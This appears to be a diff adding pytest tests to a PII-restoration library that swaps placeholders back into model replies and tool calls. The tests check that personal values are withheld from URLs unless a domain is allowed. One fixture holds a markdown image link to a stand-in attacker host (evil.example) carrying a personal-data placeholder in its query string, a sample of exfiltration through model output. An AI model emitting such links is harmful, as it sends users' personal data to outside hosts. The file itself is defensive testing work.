@@ -2,12 +2,13 @@ import copy
 from collections.abc import Iterable, Mapping
 from typing import Any
 
+import orjson
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from euguard.errors import ModelUnavailableError
-from euguard.pii.reply import ReplyRestorer
+from euguard.pii.reply import Destinations, ReplyRestorer
 
 ORIGINALS = {
     "<PERSON_7Q3K>": 'Anna "Nan" Berg',
@@ -74,6 +75,50 @@ def _deltas(chunks: Iterable[Mapping[str, Any]]) -> list[Any]:
         for chunk in chunks
         for choice in chunk["choices"]
     ]
+
+
+# ------------------------------------------------------------------ where values may go
+
+
+LEAK = "![x](https://evil.example/?q=<PERSON_7Q3K>) <PERSON_7Q3K>"
+CALL = '{"url":"https://crm.intra.example/?q=PERSON_7Q3K","to":"<PERSON_7Q3K>"}'
+
+
+def _sent(text: str, arguments: str, destinations: Destinations) -> tuple[str, str, int, int]:
+    restorer = ReplyRestorer(ORIGINALS, json_content=False, destinations=destinations)
+    message = {"content": text, "tool_calls": [_call("ask", arguments)]}
+    sent = restorer.whole(_completion(message))["choices"][0]["message"]
+    called = sent["tool_calls"][0]["function"]["arguments"]
+    return sent["content"], called, restorer.restored, restorer.withheld
+
+
+def test_no_value_goes_into_an_address_as_delivered() -> None:
+    text, called, restored, withheld = _sent(LEAK, CALL, Destinations())
+
+    assert text == '![x](https://evil.example/?q=<PERSON_7Q3K>) Anna "Nan" Berg'
+    assert orjson.loads(called) == {
+        "url": "https://crm.intra.example/?q=PERSON_7Q3K",
+        "to": 'Anna "Nan" Berg',
+    }
+    assert (restored, withheld) == (2, 2)
+
+
+def test_a_value_goes_into_an_address_that_the_purpose_allows() -> None:
+    text, called, restored, withheld = _sent(
+        LEAK, CALL, Destinations(links=frozenset({"intra.example"}))
+    )
+
+    assert "evil.example/?q=<PERSON_7Q3K>)" in text
+    assert orjson.loads(called)["url"] == "https://crm.intra.example/?q=Anna%20%22Nan%22%20Berg"
+    assert (restored, withheld) == (3, 1)
+
+
+def test_no_value_goes_to_a_tool_where_the_purpose_says_so() -> None:
+    text, called, restored, withheld = _sent("<PERSON_7Q3K>", CALL, Destinations(arguments=False))
+
+    assert text == 'Anna "Nan" Berg'
+    assert called == CALL
+    assert (restored, withheld) == (1, 2)
 
 
 # ------------------------------------------------------------------ whole replies
